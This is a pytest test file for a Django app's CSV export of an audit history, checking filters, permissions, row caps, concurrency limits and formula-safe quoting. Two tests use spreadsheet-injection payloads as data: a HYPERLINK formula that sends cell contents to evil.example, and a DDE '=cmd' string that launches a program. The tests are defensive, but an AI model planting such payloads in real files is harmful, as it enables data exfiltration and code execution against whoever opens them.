"""The history as a CSV file (/history/export.csv): the same events the page shows
for the same filters, streamed, every cell safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import time
from types import SimpleNamespace
from unittest import mock

import pytest
from django.core.cache import cache
from django.core.signals import request_finished
from django.db import close_old_connections

from tests.factories import TeamFactory, UploadFactory, UploadRowFactory
from tests.helpers import login_url, make_user
from tests.views.test_history import sales_and_finance_history
from uploads.models import AuditEvent, Upload
from uploads.services.audit import audit
from uploads.services.review import upload_resolve

HEADER = [
    "time",
    "team",
    "person",
    "action",
    "description",
    "upload",
    "kind",
    "comment",
    "details",
]


@pytest.fixture
def history(team, other_team, alice, charlie, operator):
    return sales_and_finance_history(team, other_team, alice, charlie, operator)


def read_csv(response) -> list[dict[str, str]]:
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


def test_it_sends_anonymous_visitors_to_log_in(client, db):
    response = client.get("/history/export.csv")
    assert response.status_code == 302
    assert response["Location"] == login_url("/history/export.csv")


def test_it_exports_the_teams_events_as_a_file(client, history, alice):
    sales, _ = history
    client.force_login(alice)
    response = client.get("/history/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="history-')
    rows = read_csv(response)
    assert [row["description"] for row in rows] == [
        "operator resolved: checked in AchieveIt",
        "Sending failed: AchieveIt said 400",
        "AchieveIt accepted job 73a0b6",
        "alice sent 4 updates",
        "alice checked a file (4 updates, 2 errors)",
    ]
    assert rows[0] == {
        "time": "2026-03-05T12:00:00+00:00",
        "team": "Sales",
        "person": "operator",
        "action": "Resolved",
        "description": "operator resolved: checked in AchieveIt",
        "upload": str(sales.number),
        "kind": "progress update",
        "comment": "",
        "details": "checked in AchieveIt",
    }
    assert rows[1]["person"] == "system"
    assert rows[2]["details"] == "job_id: 73a0b6"
    assert rows[4]["details"] == "errors: 2; rows: 4"


def test_the_export_follows_the_pages_filters(client, history, operator):
    client.force_login(operator)
    rows = read_csv(client.get("/history/export.csv?team=finance&person=charlie"))
    assert [row["description"] for row in rows] == [
        "charlie sent 1 update",
        "charlie checked a file (1 update)",
    ]
    everything = read_csv(client.get("/history/export.csv"))
    assert len(everything) == 8
    assert everything[0]["team"] == ""  # a user created, in no team


def test_a_member_cannot_export_another_teams_events(client, history, alice):
    client.force_login(alice)
    response = client.get("/history/export.csv?team=finance")
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()
    assert "charlie" not in response.content.decode()


def test_a_formula_in_a_note_comes_out_as_text(client, team, operator, failed):
    note = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    upload_resolve(
        upload=failed,
        user=operator,
        note=note,
        outcome=Upload.ResolutionOutcome.APPLIED,
    )
    client.force_login(operator)
    rows = read_csv(client.get("/history/export.csv?action=upload.resolved"))
    assert rows[0]["details"] == f"'{note}; outcome: applied"
    # The sentence starts with who did it, so it is safe as it stands.
    assert rows[0]["description"] == (
        f"operator resolved (applied in AchieveIt): {note}"
    )


def test_a_team_or_person_named_like_a_formula_is_quoted(client, operator):
    team = TeamFactory(slug="sneaky", name="=cmd|' /C calc'!A0")
    person = make_user("@sneaky", team, "uploader")
    audit(
        action=AuditEvent.Action.UPLOAD_CONFIRMED,
        upload=UploadFactory(team=team),
        actor=person,
    )
    client.force_login(operator)
    (row,) = read_csv(client.get("/history/export.csv"))
    assert row["team"] == "'=cmd|' /C calc'!A0"
    assert row["person"] == "'@sneaky"


def test_the_export_names_people_and_uploads_as_they_were(
    client, history, alice, operator
):
    sales, _ = history
    alice.username = "alice.w"
    alice.save()
    audit(action=AuditEvent.Action.UPLOAD_ARCHIVED, team=sales.team, upload_number=41)
    client.force_login(operator)

    rows = read_csv(client.get("/history/export.csv?team=sales"))

    assert rows[0]["upload"] == "41"
    assert {row["person"] for row in rows if row["upload"] == str(sales.number)} == {
        "alice",
        "operator",
        "system",
    }


def test_the_export_says_the_kind_and_the_items_comment(client, team, alice):
    upload = UploadFactory(team=team, created_by=alice, kind=Upload.Kind.METRIC)
    UploadRowFactory(upload=upload, external_id="SALES-Q4-01", comment="=1+1 up")
    audit(action=AuditEvent.Action.UPLOAD_CONFIRMED, upload=upload)
    client.force_login(alice)

    (row,) = read_csv(client.get("/history/export.csv?external_id=SALES-Q4-01"))

    assert row["kind"] == "metric update"
    # A formula-like comment is sent as written, and served back formula-safe.
    assert row["comment"] == "'=1+1 up"


def test_an_export_reads_in_the_same_queries_however_many_uploads(
    client, team, alice, django_assert_max_num_queries
):
    """The export reads only the upload fields its rows show (a big bad file's
    findings and text are not read again for each of its events), and not one
    field is fetched later, row by row."""
    for _ in range(2):
        audit(
            action=AuditEvent.Action.UPLOAD_CONFIRMED,
            upload=UploadFactory(team=team, created_by=alice, row_count=3),
            actor=alice,
        )
    client.force_login(alice)
    with django_assert_max_num_queries(12) as few:
        assert len(read_csv(client.get("/history/export.csv"))) == 2
    (read,) = [query["sql"] for query in few if '"uploads_auditevent"' in query["sql"]]
    assert '"row_count"' in read
    assert '"findings"' not in read
    assert '"normalized_csv"' not in read
    for _ in range(6):
        audit(
            action=AuditEvent.Action.UPLOAD_CONFIRMED,
            upload=UploadFactory(team=team, created_by=alice, row_count=3),
            actor=alice,
        )

    with django_assert_max_num_queries(len(few)):
        rows = read_csv(client.get("/history/export.csv"))

    assert len(rows) == 8
    assert {row["description"] for row in rows} == {"alice sent 3 updates"}


LOCMEM = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"}}


@pytest.fixture
def counted(settings):
    """A cache that counts (the test settings' dummy cache counts nothing)."""
    settings.CACHES = LOCMEM
    cache.clear()
    yield
    cache.clear()


def test_an_export_stops_at_the_cap_and_says_so_at_its_end(
    client, history, operator, settings
):
    settings.HISTORY_EXPORT_MAX_ROWS = 3
    client.force_login(operator)

    rows = read_csv(client.get("/history/export.csv"))

    assert len(rows) == 4
    assert [row["team"] for row in rows[:3]] != ["", "", ""]
    assert rows[3]["time"] == ""
    assert rows[3]["description"].startswith("This file stops at 3 events")
    assert "Narrow the filters" in rows[3]["description"]


def test_an_export_exactly_at_the_cap_is_whole(client, history, operator, settings):
    settings.HISTORY_EXPORT_MAX_ROWS = 8
    client.force_login(operator)

    rows = read_csv(client.get("/history/export.csv"))

    assert len(rows) == 8
    assert all(row["time"] for row in rows)


def test_the_page_says_how_many_events_an_export_holds(client, history, operator):
    client.force_login(operator)
    page = client.get("/history/").content.decode()
    assert "An export holds at most 100,000 events" in page


def test_one_person_runs_at_most_two_exports_at_once(
    client, history, alice, bob, counted, settings
):
    settings.HISTORY_EXPORTS_PER_PERSON = 2
    client.force_login(alice)
    first = client.get("/history/export.csv")
    second = client.get("/history/export.csv")
    assert (first.status_code, second.status_code) == (200, 200)

    third = client.get("/history/export.csv")

    assert third.status_code == 429
    assert third["Retry-After"] == str(settings.HISTORY_EXPORT_LEASE_SECONDS)
    page = third.content.decode()
    assert "You already have 2 exports of the history downloading" in page
    assert "Wait for one of them to finish" in page
    assert 'href="/history/"' in page  # back to the history
    # Another person's exports are theirs to count.
    client.force_login(bob)
    assert client.get("/history/export.csv").status_code == 200
    # An export read to its end gives its slot back.
    client.force_login(alice)
    assert len(read_csv(first)) == 5
    assert client.get("/history/export.csv").status_code == 200


def test_a_slot_comes_back_when_a_cut_stream_is_closed(
    client, history, alice, counted, settings
):
    settings.HISTORY_EXPORTS_PER_PERSON = 1
    client.force_login(alice)
    cut = client.get("/history/export.csv")
    assert client.get("/history/export.csv").status_code == 429

    # The server closes a response whose client went away (the test client's own
    # way: its request_finished must not close the test's database connection).
    request_finished.disconnect(close_old_connections)
    try:
        cut.close()
    finally:
        request_finished.connect(close_old_connections)

    assert client.get("/history/export.csv").status_code == 200


def test_a_slot_whose_stream_died_frees_itself_after_the_lease(
    client, history, alice, counted, settings
):
    settings.HISTORY_EXPORTS_PER_PERSON = 1
    settings.HISTORY_EXPORT_LEASE_SECONDS = 60
    client.force_login(alice)
    assert client.get("/history/export.csv").status_code == 200  # never read
    assert client.get("/history/export.csv").status_code == 429

    later = time.time() + 61
    with mock.patch("django.core.cache.backends.locmem.time.time", return_value=later):
        assert client.get("/history/export.csv").status_code == 200


def test_a_refused_export_is_a_light_page_that_keeps_the_filters(
    client, history, alice, counted, settings, django_assert_max_num_queries
):
    settings.HISTORY_EXPORTS_PER_PERSON = 1
    client.force_login(alice)
    assert client.get("/history/export.csv?action=upload.created").status_code == 200

    # What a person looping exports is answered: no history read, no navigation
    # (the session and the user only), however many times they ask.
    with django_assert_max_num_queries(2):
        refused = client.get("/history/export.csv?action=upload.created")

    assert refused.status_code == 429
    page = refused.content.decode()
    assert "You already have 1 export of the history downloading" in page
    assert "Wait for it to finish" in page
    assert 'href="/history/?action=upload.created"' in page
    assert 'data-testid="event"' not in page


def test_an_export_pauses_as_long_as_it_works(monkeypatch):
    """Each piece of the file waits as long as it took to make (EXPORT_CPU_SHARE
    0.5): one export keeps at most half a core, whoever loops them."""
    from uploads.views import history as view

    clock = iter([0.0, 0.02, 0.03, 0.08, 0.09, 0.09, 0.1])  # thread CPU seconds
    slept: list[float] = []
    fake = SimpleNamespace(thread_time=lambda: next(clock), sleep=slept.append)
    monkeypatch.setattr(view, "time", fake)

    assert list(view._paced(iter(["a", "b", "c"]))) == ["a", "b", "c"]

    assert slept == pytest.approx([0.02, 0.05, 0.0])


def test_an_export_comes_in_pieces_of_about_64_kb():
    from uploads.views.history import _batched

    lines = [f"{n:09d}\r\n" for n in range(20_000)]  # 11 characters each
    pieces = list(_batched(iter(lines)))
    assert "".join(pieces) == "".join(lines)
    assert [len(piece) for piece in pieces[:-1]] == [65_538] * (len(pieces) - 1)
    assert 0 < len(pieces[-1]) <= 65_538
